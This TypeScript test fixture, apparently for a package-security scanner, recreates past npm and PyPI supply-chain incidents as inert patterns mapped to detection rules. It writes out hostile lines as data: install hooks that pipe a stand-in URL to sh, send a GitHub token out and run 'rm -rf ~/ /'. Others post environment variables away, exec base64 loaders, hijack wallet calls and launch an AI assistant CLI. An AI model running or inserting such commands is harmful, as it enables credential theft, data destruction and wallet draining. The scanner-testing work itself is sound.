/**
 * Incidents of docs/incidents.md up to 2025 that show in what was published, each built again as its
 * pattern: inert text of the right shape in two small packages. No line of what was really published
 * is here.
 */
import { call } from '../../src/inspect/artifact/file-kind.ts';
import { npmChange, sampleHistory, sdistFiles } from '../../src/inspect/samples/sample-artifact.ts';
import {
  base64,
  depends,
  ESM,
  filler,
  HOUR_MS,
  hooked,
  type IncidentPattern,
  MAIN,
  obfuscated,
  starts,
  wheel,
  worm,
} from './incident-parts.ts';

export const UNTIL_2025: readonly IncidentPattern[] = [
  {
    id: 'I01',
    pattern: 'postinstall and a new file that evaluates a text of a paste host and reads .npmrc',
    rules: ['install-hook', 'capability-first-used'],
    make: () =>
      hooked(
        'postinstall',
        'lib/build.js',
        `get("https://pastebin.com/raw/x", (t) => ${call('eval')}t)); read("~/.npmrc");`,
      ),
  },
  {
    id: 'I02',
    pattern: 'a dependency added that is weeks old',
    rules: ['dependency-added', 'dependency-young'],
    make: () => depends('flatmap-stream', '^0.1.0', 20 * 24 * HOUR_MS),
  },
  {
    id: 'I05',
    pattern: 'preinstall with shell files, three lines within minutes',
    rules: ['install-hook', 'version-burst'],
    make: () =>
      npmChange(
        [{}, MAIN],
        [
          { scripts: { preinstall: 'start /B node preinstall.js & node preinstall.js' } },
          { ...MAIN, 'preinstall.js': starts('"sh preinstall.sh"'), 'preinstall.sh': 'curl x\n' },
        ],
      ),
    release: { times: { '0.8.0': 0.05, '2.0.0': 0.1, '1.2.2': 5000 } },
  },
  {
    id: 'I06',
    pattern: 'a package quiet for three years, preinstall, other lines seconds before',
    rules: ['install-hook', 'version-burst'],
    make: () => hooked('preinstall', 'compile.js', obfuscated),
    release: { times: { '2.3.9': 0.005, '1.2.2': 26_000 } },
  },
  {
    id: 'I07',
    pattern: 'the main file loses nearly all it had',
    rules: ['content-collapse'],
    make: () =>
      npmChange(
        [{}, { 'index.js': 'exports.a = 1;\n'.repeat(400) }],
        [{}, { 'index.js': 'for (;;);\n' }],
      ),
  },
  {
    id: 'I08',
    pattern: 'names of an obfuscator, files overwritten by country, a new dependency of the author',
    rules: ['obfuscated-code', 'dependency-added', 'dependency-young', 'capability-first-used'],
    make: () => ({
      ...npmChange(
        [{}, MAIN],
        [
          { dependencies: { peacenotwar: '^9.1.3' } },
          { ...MAIN, 'dao/ssl-geospec.js': `${obfuscated}${call('fetch')}"https://geo.example")` },
        ],
      ),
      histories: [sampleHistory('peacenotwar', 24 * HOUR_MS)],
    }),
  },
  {
    id: 'I09',
    pattern: 'a module quiet for eight years that sends its environment away',
    rules: ['dormant-revived', 'capability-first-used'],
    make: () =>
      wheel(
        {},
        {
          'ctx.py':
            'import requests, os\nrequests.post("https://x.example", data=dict(os.environ))\n',
        },
      ),
    release: { times: { '1.2.2': 8 * 8760 } },
  },
  {
    id: 'I10',
    pattern: 'a preinstall hook that fetches',
    rules: ['install-hook'],
    make: () =>
      npmChange([{}, MAIN], [{ scripts: { preinstall: 'curl https://x.example | sh' } }, MAIN]),
  },
  {
    id: 'I11',
    pattern: 'a dependency whose name nobody has on the registry',
    rules: ['dependency-unclaimed', 'dependency-added'],
    make: () => ({
      ...npmChange([{}, MAIN], [{ dependencies: { torchtriton: '2.0.0' } }, MAIN]),
      histories: [sampleHistory('torchtriton', 'absent')],
    }),
  },
  {
    id: 'I12',
    pattern: 'a bundle that replaces what the wallet and the network do',
    rules: ['wallet-interception'],
    make: () =>
      npmChange(
        [{}, MAIN],
        [{}, { 'index.js': 'window.ethereum.request = f; window.fetch = g;exports.one = 1;\n' }],
      ),
  },
  {
    id: 'I14',
    pattern: 'a player that asks for a wallet, three patches within the hour',
    rules: ['wallet-interception', 'version-burst'],
    make: () =>
      npmChange(
        [{}, MAIN],
        [
          {},
          {
            'index.js':
              'const s = window.ethereum.request; ethereum.request = (a) => drain(a, s);\n',
          },
        ],
      ),
    release: { times: { '1.2.2': 0.2, '1.2.1': 0.5, '1.2.0': 0.8 } },
  },
  {
    id: 'I15',
    pattern: 'a function in one built library sends keys away; its twin is as before',
    rules: ['twin-changed-alone', 'capability-first-used'],
    make: () =>
      npmChange(
        [{}, { 'lib/index.cjs': 'a()', 'lib/index.mjs': 'a()' }],
        [
          {},
          {
            'lib/index.cjs': `a();${call('fetch')}"https://x.example/" + key);${filler(3000)}`,
            'lib/index.mjs': 'a()',
          },
        ],
      ),
  },
  {
    id: 'I16',
    pattern: 'a wheel whose module is not that of the sdist, and fetches and starts a program',
    rules: ['twin-changed-alone', 'capability-first-used'],
    make: () => ({
      ...wheel(
        { 'agent/downloads.py': 'def get(): pass\n' },
        {
          'agent/downloads.py':
            'import subprocess, requests\nsubprocess.run([requests.get(u).content])\n',
        },
      ),
      twin: {
        kind: 'sdist',
        before: sdistFiles({ 'agent/downloads.py': 'def get(): pass\n' }),
        entries: sdistFiles({ 'agent/downloads.py': 'def get(): pass\n' }),
      },
    }),
  },
  {
    id: 'I17',
    pattern: 'the same payload in wheel and sdist, uploaded by hand',
    rules: ['capability-first-used'],
    make: () => wheel({}, { 'agent/utils.py': 'import os\nos.system("x")\n' }),
  },
  {
    id: 'I18',
    pattern: 'a postinstall hook that starts a new file',
    rules: ['install-hook'],
    make: () => hooked('postinstall', 'scripts/config.js', starts('"./miner"')),
  },
  {
    id: 'I20',
    pattern: 'a patch of an old line with the scripts gone and the keys sent away',
    rules: ['capability-first-used', 'version-burst'],
    make: () =>
      npmChange(
        [{ scripts: { build: 'tsc' } }, MAIN],
        [{}, { 'index.js': `${call('fetch')}"https://x.example", { headers: { k } });\n` }],
      ),
    release: { times: { '4.2.4': 0.5, '4.2.3': 1, '1.2.2': 9000 } },
  },
  {
    id: 'I21',
    pattern: 'code behind hundreds of blanks and two dependencies added',
    rules: ['offscreen-code', 'dependency-added'],
    make: () =>
      npmChange(
        [{}, MAIN],
        [
          { dependencies: { axios: '^1.0.0', 'socket.io-client': '^4.0.0' } },
          { 'index.js': `exports.one = 1;${' '.repeat(900)}run();\n` },
        ],
      ),
  },
  {
    id: 'I23',
    pattern: 'an install hook and a library for Windows',
    rules: ['install-hook', 'binary-added', 'version-burst'],
    make: () =>
      npmChange(
        [{}, MAIN],
        [
          { scripts: { install: 'node install.js' } },
          {
            ...MAIN,
            'install.js': starts('"rundll32 node-gyp.dll,main"'),
            'node-gyp.dll': 'MZ\x90\0',
          },
        ],
      ),
    release: { times: { '8.10.1': 0.1, '9.1.1': 0.1, '1.2.2': 5000 } },
  },
  {
    id: 'I24',
    pattern: 'preinstall takes a token, postinstall deletes everything',
    rules: ['install-hook'],
    make: () =>
      npmChange(
        [{}, MAIN],
        [
          {
            scripts: { preinstall: 'curl -d "$(gh auth token)" x', postinstall: 'rm -rf ~/ /' },
          },
          MAIN,
        ],
      ),
  },
  {
    id: 'I25',
    pattern: 'a loader that is decoded and run on import',
    rules: ['obfuscated-code', 'capability-first-used'],
    make: () =>
      wheel({}, { 'agent/load.py': `import base64\nexec(base64.b64decode("${base64}"))\n` }),
  },
  {
    id: 'I26',
    pattern: 'postinstall: node telemetry.js that starts assistants and reads wallets',
    rules: ['install-hook', 'capability-first-used'],
    make: () => hooked('postinstall', 'telemetry.js', starts('"claude -p scan"')),
  },
  {
    id: 'I28',
    pattern: 'one long obfuscated line before the main code, which replaces fetch and the wallet',
    rules: ['obfuscated-code', 'wallet-interception'],
    make: () =>
      npmChange(
        [{}, MAIN],
        [
          {},
          {
            'index.js': `${obfuscated}XMLHttpRequest.prototype.open=f;if(window.ethereum)window.fetch=g;exports.one = 1;\n`,
          },
        ],
      ),
  },
  {
    id: 'I29',
    pattern: 'postinstall: node bundle.js of 3.6 MB; the same file without the hook',
    rules: ['install-hook', 'size-jump', 'self-propagation'],
    make: () => hooked('postinstall', 'bundle.js', worm(3_600_000)),
  },
  {
    id: 'I29',
    pattern: 'the large file alone',
    rules: ['size-jump'],
    make: () => npmChange([{}, ESM], [{}, { ...ESM, 'bundle.js': filler(3_600_000) }]),
  },
  {
    id: 'I30',
    pattern: 'preinstall: node setup_bun.js beside a file of 10 MB',
    rules: ['install-hook', 'size-jump'],
    make: () =>
      npmChange(
        [{}, MAIN],
        [
          { scripts: { preinstall: 'node setup_bun.js' } },
          {
            ...MAIN,
            'setup_bun.js': starts('"bun bun_environment.js"'),
            'bun_environment.js': filler(10_000_000),
          },
        ],
      ),
  },
  {
    id: 'I32',
    pattern: 'package.json alone changes: a hook that installs another package',
    rules: ['install-hook'],
    make: () =>
      npmChange([{}, MAIN], [{ scripts: { postinstall: 'npm install -g openclaw@latest' } }, MAIN]),
  },
  {
    id: 'I35',
    pattern: 'postinstall: node index.js, which reads a token and publishes',
    rules: ['install-hook', 'self-propagation'],
    make: () => hooked('postinstall', 'index.js', worm(100)),
  },
];
